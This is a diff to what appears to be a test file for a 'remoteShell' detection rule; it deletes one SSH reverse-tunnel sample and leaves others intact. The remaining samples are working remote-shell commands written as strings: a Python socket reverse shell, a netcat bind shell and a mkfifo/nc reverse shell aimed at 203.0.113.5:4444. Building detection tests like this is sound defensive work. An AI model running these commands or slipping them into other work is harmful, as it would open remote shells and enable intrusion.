@@ -9,7 +9,6 @@ describeCodeRule(remoteShell, {
       'import socket,os,pty\ns=socket.socket()\ns.connect(("203.0.113.5",4444))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")',
     ),
     sh('nc -l -p 4444 -e /bin/bash'),
-    sh('ssh -fNR 2222:localhost:22 drop@203.0.113.5'),
     sh('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f'),
   ],
   quiet: [
